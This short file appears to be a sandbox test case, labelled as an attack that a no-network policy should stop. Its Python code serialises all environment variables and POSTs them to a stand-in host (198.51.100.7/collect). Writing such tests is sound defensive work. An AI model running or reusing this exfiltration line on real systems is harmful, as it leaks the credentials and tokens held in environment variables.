# attack: post the environment over HTTP from Python
# expect: VIOLATION NETWORK
# stopped-by: network none
import json, os, urllib.request
urllib.request.urlopen("http://198.51.100.7/collect", data=json.dumps(dict(os.environ)).encode(), timeout=3)
raise SystemExit(42)
